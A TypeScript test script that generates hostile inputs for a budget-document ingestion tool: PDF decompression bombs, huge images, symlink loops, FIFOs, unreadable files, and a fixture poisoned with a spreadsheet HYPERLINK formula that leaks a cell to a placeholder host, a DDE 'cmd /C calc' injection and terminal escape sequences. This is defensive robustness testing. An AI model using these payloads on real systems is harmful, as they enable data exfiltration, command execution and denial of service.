/**
 * Writes a hostile batch into a folder, so anyone can rerun the memory and discovery measurements:
 *   npx tsx scripts/hostile-set.ts /tmp/hostile
 *   /usr/bin/time -v npx budgetlens ingest /tmp/hostile --db /tmp/hostile.sqlite [--memory-limit 512]
 * Every input must end as a row or a summary line, the batch must exit 0, and the peak resident size of the
 * process tree must stay within --memory-limit. PDFs are written by hand (a few objects and an xref), so the
 * set needs nothing but Node; a compressed stream is made by deflating in chunks, never held expanded.
 */
import { execFileSync } from 'node:child_process';
import { chmodSync, closeSync, mkdirSync, openSync, readFileSync, rmSync, symlinkSync, writeFileSync, writeSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { deflated, imageDraw, pagesPdf, pdf } from './lib/hostile-pdf.js';

const out = process.argv[2];
if (!out) {
  process.stderr.write('usage: npx tsx scripts/hostile-set.ts <folder>\n');
  process.exit(2);
}

rmSync(out, { recursive: true, force: true });
mkdirSync(out, { recursive: true });
const file = (name: string, data: Buffer | string) => writeFileSync(join(out, name), data);

// Blank pages: nothing to read, nothing to render.
file('blank-300-pages.pdf', pagesPdf(300));
file('blank-2000-pages.pdf', pagesPdf(2000));

// A one-page PDF whose page claims 8000 x 8000 points, covered by a small image (so it looks like a scan).
const tiny = deflateSync(Buffer.alloc(64 * 64, 0x80));
const tinyImage = { dict: '/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode', stream: tiny };
file('page-8000pt.pdf', pagesPdf(1, { size: [8000, 8000], content: imageDraw(8000, 8000), resources: '/XObject << /Im1 4 0 R >>', extra: [tinyImage] }));

// A 20000 x 20000 pixel image (400 MB of grey once decoded) on an A4 page.
const huge = await deflated(20000 * 20000, 0xff);
file('image-20000px.pdf', pagesPdf(1, {
  content: imageDraw(595, 842), resources: '/XObject << /Im1 4 0 R >>',
  extra: [{ dict: '/Type /XObject /Subtype /Image /Width 20000 /Height 20000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode', stream: huge }],
}));

// Stream bombs: a content stream of 1 GB of spaces, and one that is a single 512 MB number.
const bomb = await deflated(1 << 30, ' ');
file('bomb-content-1gb.pdf', pdf([
  { dict: '/Type /Catalog /Pages 2 0 R' },
  { dict: '/Type /Pages /Count 1 /Kids [3 0 R]' },
  { dict: '/Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >>' },
  { dict: '/Filter /FlateDecode', stream: bomb },
]));
const ops = await deflated(512 << 20, '0'); // one number 512 MB long
file('bomb-digits-512mb.pdf', pdf([
  { dict: '/Type /Catalog /Pages 2 0 R' },
  { dict: '/Type /Pages /Count 1 /Kids [3 0 R]' },
  { dict: '/Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >>' },
  { dict: '/Filter /FlateDecode', stream: ops },
]));

// A 200 MB text file, written line by line.
{
  const fd = openSync(join(out, 'text-200mb.txt'), 'w');
  const line = Buffer.from('一般公共预算支出 2080101 行政运行 123.45 67.89 55.56\n');
  const block = Buffer.concat(Array.from({ length: 16384 }, () => line));
  for (let n = 0; n < 200 * 1048576; n += block.length) writeSync(fd, block);
  closeSync(fd);
}

// Discovery: link loops, an unreadable folder and file, FIFOs, a broken link, empty files.
mkdirSync(join(out, 'loops', 'a', 'b'), { recursive: true });
symlinkSync('../..', join(out, 'loops', 'a', 'b', 'up'));
symlinkSync('.', join(out, 'loops', 'self'));
symlinkSync('knot-2.txt', join(out, 'loops', 'knot-1.txt'));
symlinkSync('knot-1.txt', join(out, 'loops', 'knot-2.txt'));
symlinkSync('missing.pdf', join(out, 'broken-link.pdf'));
mkdirSync(join(out, 'locked'));
file('locked/inside.txt', 'x');
chmodSync(join(out, 'locked'), 0o000);
file('unreadable.txt', 'x');
chmodSync(join(out, 'unreadable.txt'), 0o000);
execFileSync('mkfifo', [join(out, 'fifo.pdf'), join(out, 'fifo.txt')]);
file('empty.txt', '');
file('empty.pdf', '');

// Payloads for the outputs: a real disclosure (the Luoyang fixture) whose names carry spreadsheet formulas and
// terminal escapes, so they reach the database and every export; and a file name with escapes in it.
const luoyang = readFileSync(new URL('../fixtures/documents/洛阳高新区人力资源和社会保障局2021年部门预算.txt', import.meta.url), 'utf8');
const poisoned = luoyang
  .replace('行政运行（人 力资源和社会保', '=HYPERLINK("http://example.invalid/?"&A1,"行政运行")')
  .replace('城镇居民医疗区级配套资金', '+cmd|\' /C calc\'!A0 @SUM(1+1) -2+3 \x1b]0;owned\x07\x1b[2J城镇居民医疗区级配套资金');
file('formula-payload.txt', poisoned);
file('\x1b[31mescape-\x07name.txt', poisoned.replace('2021 年度部门预算', '2021 年度部门预算 \x1b[5m'));

process.stdout.write(`hostile set written to ${out}\n`);
